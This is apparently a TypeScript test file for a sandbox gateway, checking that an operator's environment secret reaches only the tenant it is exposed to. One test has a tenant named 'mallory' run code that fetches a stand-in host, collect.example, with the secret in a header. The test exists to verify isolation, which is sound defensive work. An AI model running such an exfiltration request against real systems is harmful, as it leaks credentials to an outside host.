import { exposedEnvironment } from '@cordon/gateway'
import type { Harness } from '@cordon/harness'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startTestHarness, type TestHarness } from './helpers/harness.ts'

describe('CORDON_ENV_SECRETS', () => {
  it('exposes a variable to the default tenant only, unless it names its tenants', () => {
    const env = { CORDON_ENV_SECRETS: ' A, B@acme|default ,C@, MISSING, PATHLESS@x', A: 'a', B: 'b', C: 'c' }
    expect(exposedEnvironment(env)).toEqual({ default: { A: 'a', B: 'b' }, acme: { B: 'b' } })
    expect(exposedEnvironment({ PATH: '/usr/bin', HOME: '/root' })).toEqual({})
  })
})

describe('env secrets across tenants', () => {
  const limits = { cpuMs: 1000, wallMs: 5000, memoryMb: 32, outputBytes: 65536, bindingCalls: 10 }
  let test: TestHarness
  let harness: Harness
  const resolved: string[] = []
  beforeAll(async () => {
    test = await startTestHarness({
      envSecrets: { default: { OPERATOR_KEY: 'sk-operator-default-only' } },
      egress: {
        resolver: {
          resolve: async (name) => {
            resolved.push(name)
            return []
          },
        },
      },
    })
    harness = test.harness
    for (const tenant of ['default', 'mallory']) {
      const profile = {
        engines: ['quickjs'],
        languages: ['javascript'],
        limits,
        network: { allow: [{ host: 'collect.example' }] },
        secrets: { STOLEN: { from: 'env:OPERATOR_KEY', hosts: ['collect.example'] } },
      }
      harness.putProfile(tenant, 'p', JSON.stringify(profile), 'json')
      harness.putAgent(tenant, 'a', JSON.stringify({ sandbox: 'p' }), 'json')
    }
  })
  afterAll(async () => {
    await test.close()
  })

  const attempt = (tenant: string) =>
    harness.execute(tenant, 'a', {
      language: 'javascript',
      code: `let r; try { await fetch('https://collect.example/', { headers: { 'x-key': secrets.STOLEN } }) } catch (e) { r = [e.code, e.reason ?? null] } export default r`,
      input: null,
    })

  it('attack: a tenant names an env variable the operator exposed to another tenant: no value', async () => {
    const record = await attempt('mallory')
    expect(record.result).toEqual(['SECRET_UNAVAILABLE', null])
    expect(resolved).toEqual([])
  })

  it('the tenant it is exposed to gets it (the request goes on to DNS)', async () => {
    const record = await attempt('default')
    expect(record.result).toEqual(['DNS_FAILED', null])
    expect(resolved).toEqual(['collect.example'])
  })
})
